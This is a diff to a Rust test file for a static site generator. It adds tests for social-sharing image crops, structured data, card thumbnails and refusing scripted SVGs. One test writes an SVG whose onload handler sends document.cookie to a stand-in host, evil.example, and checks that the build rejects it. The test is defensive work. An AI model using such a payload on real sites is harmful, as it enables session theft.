@@ -52,6 +52,43 @@ fn photos_are_published_as_variants_without_their_metadata() {
     assert_eq!(size("articles/atelier-photo/carte.png"), (150, 100));
     assert_eq!(size("articles/atelier-photo/carte.webp"), (150, 100));
     assert!(!site.exists("articles/atelier-photo/une-original.jpg"));
+    // The lead photo's crop for sharing: the middle at 1.91:1, 1200 pixels wide at most.
+    assert_eq!(size("articles/atelier-photo/une-partage.jpg"), (960, 503));
+    assert!(
+        !site.exists("articles/atelier-photo/presse-partage.jpg"),
+        "body photos get none"
+    );
+}
+
+#[test]
+fn sharing_and_structured_data_get_the_crop_with_its_size() {
+    let site = photo_site();
+    site.build_ok();
+    let page = site.read(PAGE);
+    let crop = format!("{BASE}articles/atelier-photo/une-partage.jpg");
+    assert!(
+        page.contains(&format!("<meta property=\"og:image\" content=\"{crop}\">")),
+        "{page}"
+    );
+    assert!(
+        page.contains("<meta property=\"og:image:width\" content=\"960\">"),
+        "{page}"
+    );
+    assert!(
+        page.contains("<meta property=\"og:image:height\" content=\"503\">"),
+        "{page}"
+    );
+    assert!(page.contains(&format!("<meta name=\"twitter:image\" content=\"{crop}\">")));
+    let json = page
+        .split("<script type=\"application/ld+json\">")
+        .nth(1)
+        .and_then(|rest| rest.split("</script>").next())
+        .unwrap();
+    let ld: serde_json::Value = serde_json::from_str(json).unwrap();
+    assert_eq!(
+        ld["image"][0],
+        serde_json::json!({"@type": "ImageObject", "url": crop, "width": 960, "height": 503})
+    );
 }
 
 #[test]
@@ -190,4 +227,39 @@ fn a_damaged_or_disguised_photo_stops_the_build_at_its_file() {
         err.contains("presse.jpg") && err.contains("truncated or damaged"),
         "{err}"
     );
+}
+
+#[test]
+fn an_svg_with_a_script_is_refused_and_an_inert_one_published_as_it_is() {
+    let site = photo_site();
+    site.build_ok();
+    assert!(site.exists("articles/usine-du-futur/usine.svg"));
+    site.write(
+        "content/articles/atelier-photo/schema.svg",
+        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('https://evil.example/'+document.cookie)\"></svg>",
+    );
+    let err = site.build().expect_err("refused").to_string();
+    assert!(
+        err.contains("content/articles/atelier-photo/schema.svg: error: this SVG file cannot be published as it is: it holds an event handler"),
+        "{err}"
+    );
+}
+
+#[test]
+fn cards_on_the_home_and_term_pages_show_a_thumbnail() {
+    let site = photo_site();
+    site.build_ok();
+    for list in ["index.html", "tags/industrie-du-futur/index.html"] {
+        let html = site.read(list);
+        let card = html
+            .split("<article class=\"carte\">")
+            .find(|c| c.contains("atelier-photo/\">"))
+            .unwrap_or_else(|| panic!("no card for the photo article in {list}"));
+        assert!(
+            card.contains(&format!(
+                "<img src=\"{BASE}articles/atelier-photo/une.jpg\" srcset=\"{BASE}articles/atelier-photo/une-160.jpg 160w"
+            )) && card.contains("sizes=\"8rem\"") && card.contains("loading=\"lazy\""),
+            "{list}: {card}"
+        );
+    }
 }
